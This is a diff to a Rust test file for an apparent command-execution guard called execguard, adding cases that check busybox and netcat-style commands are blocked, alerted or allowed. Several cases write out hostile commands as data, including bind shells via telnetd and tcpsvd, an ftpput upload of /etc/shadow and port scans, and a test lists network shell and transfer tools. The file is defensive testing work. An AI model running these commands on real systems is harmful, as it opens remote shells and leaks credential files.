@@ -90,6 +90,37 @@ fn cases() -> Vec<Case> {
         case("a listener on localhost is still a listener", exec(NC, "nc -l -p 4444 localhost"), Block, shell),
         case("busybox nc -lp", exec(BUSYBOX, "busybox nc -lp 4444"), Block, shell),
         case("busybox symlink /bin/nc", exec(BUSYBOX, "nc -l -p 4444"), Block, shell),
+        // A file the supervisor identified as busybox, under whatever name it was run.
+        case("busybox sleep (Alpine's /bin/sleep)", exec("/bin/sleep", "sleep 1").identity("busybox"), Allow, None),
+        case("busybox's nc applet", exec("/bin/nc", "nc 10.0.0.1 4444").identity("busybox"), Block, launch),
+        case(
+            "argv[0] that busybox takes for itself",
+            exec("/bin/ls", "busybox-x86_64 nc -lp 4444").identity("busybox"),
+            Block,
+            shell,
+        ),
+        case("busybox --help nc runs nothing", exec(BUSYBOX, "busybox --help nc"), Allow, None),
+        case(
+            "busybox telnetd binds a shell",
+            exec(BUSYBOX, "telnetd -l /bin/sh -p 2323"),
+            Block,
+            Some("execguard.net_applet_shell_or_transfer"),
+        ),
+        case(
+            "busybox tcpsvd binds a program to a port",
+            exec(BUSYBOX, "busybox tcpsvd 0 4444 /bin/sh"),
+            Block,
+            Some("execguard.net_applet_shell_or_transfer"),
+        ),
+        case(
+            "busybox ftpput moves a file out",
+            exec(BUSYBOX, "ftpput 10.0.0.1 x /etc/shadow"),
+            Block,
+            Some("execguard.net_applet_shell_or_transfer"),
+        ),
+        case("busybox httpd is alerted", exec(BUSYBOX, "httpd -f -p 8080"), Alert, Some("execguard.net_applet")),
+        case("busybox pscan is a scanner", exec(BUSYBOX, "pscan 10.0.0.1"), Block, scanner),
+        case("nping is a scanner", exec("/usr/bin/nping", "nping --tcp 10.0.0.1"), Block, scanner),
         // Netcat, plain.
         case("nc connect", exec(NC, "nc 10.0.0.1 4444"), Block, launch),
         case("exec -a foo nc is still nc", exec(NC, "foo 10.0.0.1 4444"), Block, launch),
@@ -329,4 +360,20 @@ fn needs_follow_the_rules_that_may_match() {
 fn the_shipped_file_is_the_embedded_policy() {
     let shipped = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../config/policy.toml")).unwrap();
     assert_eq!(shipped, execguard_policy::DEFAULT_POLICY);
+}
+
+/// The supervisor learns the files of exactly these names: every tool a rule names, and
+/// the multi-call binaries whose applets rules name.
+#[test]
+fn tool_names_are_the_names_the_rules_match() {
+    let policy = Policy::embedded().unwrap();
+    let names: Vec<&str> = policy.tool_names().iter().map(|name| &**name).collect();
+    for name in ["nc", "ncat", "netcat", "socat", "nmap", "nping", "pscan", "tcpdump", "curl", "wget", "telnetd"] {
+        assert!(names.contains(&name), "{name} missing from {names:?}");
+    }
+    for name in ["busybox", "toybox"] {
+        assert!(names.contains(&name), "{name}");
+    }
+    assert!(!names.iter().any(|name| name.contains('*')), "globs name no file: {names:?}");
+    assert!(!names.contains(&"sh"), "shells are matched by name only inside rules about their arguments");
 }
